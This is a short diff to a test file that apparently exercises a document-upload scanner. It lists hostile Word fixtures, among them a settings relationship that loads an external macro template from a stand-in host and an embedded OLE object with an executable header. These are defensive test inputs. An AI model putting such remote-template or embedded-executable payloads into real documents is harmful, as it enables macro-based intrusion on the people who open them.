@@ -175,7 +175,7 @@ const hostile: readonly (readonly [string, string, Buffer])[] = [
     ...mixed('sjabloon.docx', {
       name: 'word/_rels/settings.xml.rels',
       bytes:
-        '<Relationship Type="x/attachedTemplate" Target="https://kwaad.example.org/a.dotm" TargetMode="External"/>',
+        '<Relationships><Relationship Type="x/attachedTemplate" Target="https://kwaad.example.org/a.dotm" TargetMode="External"/></Relationships>',
     }),
   ],
   ['macros', ...mixed('programma.docx', { name: 'word/embeddings/oleObject1.bin', bytes: 'MZ' })],
